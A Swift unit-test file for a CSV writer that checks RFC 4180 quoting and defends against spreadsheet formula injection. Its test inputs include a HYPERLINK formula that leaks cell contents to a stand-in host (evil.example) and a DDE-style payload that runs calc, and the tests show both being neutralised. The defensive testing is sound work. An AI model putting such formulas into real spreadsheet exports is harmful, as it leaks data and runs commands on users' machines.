@testable import CrimeData
import Testing

@Suite("CSV writer")
struct CSVWriterTests {
    @Test("RFC 4180 quoting of commas, quotes and line breaks")
    func quoting() {
        #expect(
            CSVWriter.record(["a", "b,c", "say \"hi\"", "two\nlines"])
                == "a,\"b,c\",\"say \"\"hi\"\"\",\"two\nlines\"\r\n")
    }

    @Test("formula injection: cells a spreadsheet would run are neutralised with an apostrophe (OWASP)")
    func formulas() {
        let attack = #"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#
        #expect(CSVWriter.field(attack) == #""'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")""#)
        #expect(CSVWriter.field("+cmd|' /C calc'!A0") == "\"'+cmd|' /C calc'!A0\"")
        #expect(CSVWriter.field("-2+3") == "\"'-2+3\"")
        #expect(CSVWriter.field("@SUM(1)") == "\"'@SUM(1)\"")
        #expect(CSVWriter.field("\t=1") == "\"'\t=1\"")
        #expect(CSVWriter.field("\r=1") == "\"'\r=1\"")
        // Numbers stay numbers.
        for number in ["-1.5", "+3", "-2e-5", "1E+10", "0", "-0.000001"] { #expect(CSVWriter.field(number) == number) }
        // Ordinary text is untouched.
        #expect(CSVWriter.field("Norwich - city centre") == "Norwich - city centre")
        #expect(CSVWriter.field("") == "")
        for notNumber in ["-", "+", "-e5", "-1e", "-1.2.3", "--1", "-1-"] {
            #expect(CSVWriter.field(notNumber).hasPrefix("\"'"))
        }
    }
}
